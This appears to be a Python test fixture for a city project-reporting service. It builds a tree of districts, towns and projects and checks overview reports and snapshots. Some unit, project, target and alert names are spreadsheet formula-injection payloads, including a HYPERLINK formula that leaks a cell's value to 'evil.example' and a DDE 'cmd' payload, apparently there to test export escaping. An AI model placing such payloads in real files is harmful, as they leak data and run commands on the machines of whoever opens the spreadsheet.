"""A list with a tree of units - a district above a town, a street and a park, the park above a town - beside a
department and a district of their own; projects with names a spreadsheet would run as formulas; November and
December frozen. Units through the registry's API (with their parents), projects as the registry's dated events."""
from dataclasses import dataclass
from datetime import date
from decimal import Decimal

from contracts import alerts
from tests.reports import produced
from tests.reports.cities import SLOW, YEAR, ProjectSpec, UnitSpec, _ok, create_unit, published
from tests.support.api import eventually

TREE_YEAR = YEAR - 7
NOV, DEC = f"{TREE_YEAR}-11", f"{TREE_YEAR}-12"
NOV_END, DEC_END = date(TREE_YEAR, 11, 30), date(TREE_YEAR, 12, 31)
REGISTERED = date(TREE_YEAR, 1, 5)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
# unit key -> (kind, parent key); the first letter of each project key is its unit
TREE = {"Q": ("district", None), "A": ("town", "Q"), "B": ("street", "Q"), "P": ("park", "Q"), "C": ("town", "P"),
        "D": ("department", None), "R": ("district", None)}
UNIT_NAMES = {"Q": "临河区", "A": "城南镇", "B": "@东关街道", "P": "高新园区", "C": "-北塘镇", "D": "交通局",
              "R": "临山县"}
# project -> (start date or None, annual plan, November's investment, red with this name)
PROJECTS = {"Q0": (None, Decimal(1000), Decimal(300), HYPERLINK), "A0": (date(TREE_YEAR, 11, 10), Decimal(2000),
                                                                           Decimal(500), None),
            "A1": (date(TREE_YEAR, 11, 10), Decimal(0), None, None), "A2": (None, Decimal(0), None, None),
            "B0": (date(TREE_YEAR, 12, 5), Decimal(0), None, None), "B1": (None, Decimal(0), None, None),
            "P0": (None, Decimal(0), None, None),
            "C0": (date(TREE_YEAR, 11, 1), Decimal(0), None, None), "C1": (date(TREE_YEAR, 12, 1), Decimal(0), None,
                                                                            None),
            "D0": (date(TREE_YEAR, 11, 3), Decimal(0), None, "+SUM(1,2)"), "D1": (None, Decimal(0), None, "-2+3"),
            "R0": (date(TREE_YEAR, 11, 3), Decimal(0), None, "@SUM(1)"), "R1": (None, Decimal(0), None, "\t制表项目"),
            "R2": (None, Decimal(0), None, "\r回车项目"), "R3": (None, Decimal(0), None, None)}
TARGET_NAME = "=1+1 临河区开工目标"
ALERT_MESSAGE = "=cmd|' /C calc'!A0"


@dataclass
class TreeCity:
    units: dict[str, UnitSpec]
    projects: dict[str, ProjectSpec]
    target: dict


def subtree(key: str) -> set[str]:
    """The unit and every unit below it, from the tree's definition."""
    found = {key}
    for child, (_, parent) in TREE.items():
        if parent == key:
            found |= subtree(child)
    return found


async def build_tree_city(platform, registry, reports) -> TreeCity:
    units = {}
    for key, (kind, parent) in TREE.items():  # parents first
        units[key] = UnitSpec(key, UNIT_NAMES[key], kind, 0, 0, 0, Decimal(0), Decimal(0), {})
        await create_unit(registry, units[key], "TREE")
        if parent:
            await _ok(await registry.patch(f"/api/v1/units/{units[key].id}", json={"parent_id": units[parent].id}))
    projects, events = {}, []
    for index, (key, (started, plan, invested, red_name)) in enumerate(PROJECTS.items()):
        projects[key] = ProjectSpec(unit=units[key[0]], index=index, total=Decimal(30_000), plan=plan,
                                    ytd=invested or Decimal(0), category="industry", level="district",
                                    stage="started" if started else "planning", real_start=False, grade=None)
        project = published(projects[key], TREE_YEAR)
        if red_name:
            project.state["name"] = red_name
        events.append(project.registered(REGISTERED))
        if started:
            events.append(project.moved("started", started))
        if invested:
            events.append(project.invested(NOV, str(invested), date(TREE_YEAR, 11, 30)))
        if red_name:
            spec = projects[key]
            events += [produced.status(spec.id, spec.unit.id, "red", "lagging", date(TREE_YEAR, 12, 15)),
                       produced.alert(alerts.AlertRaised, spec.id, spec.unit.id, rule="node_overdue", colour="red",
                                      message=ALERT_MESSAGE, raised_on=date(TREE_YEAR, 12, 15))]
    await produced.produce(platform.broker.bootstrap, events)
    q = units["Q"]

    async def applied():
        body = (await reports.get("/api/v1/overview", params={"year": TREE_YEAR})).json()
        tree = (await reports.get("/api/v1/overview", params={"year": TREE_YEAR, "unit_id": q.id})).json()
        return (body["project_count"], body["started_or_completed_count"], body["ytd_investment"],
                body["by_colour"]["red"]["count"], tree["project_count"]) == (15, 7, "800", 6, 9)

    await eventually(applied, timeout=SLOW, interval=0.5, what="the tree city in the reports overview")
    target = await _ok(await reports.post("/api/v1/targets", json={
        "year": TREE_YEAR, "name": TARGET_NAME, "measure": "started_count", "value": "6",
        "filter": {"unit_id": q.id}}))
    for period in (NOV, DEC):
        response = await reports.post("/api/v1/snapshots", json={"period": period})
        assert response.status_code == 201, response.text
    return TreeCity(units=units, projects=projects, target=target)
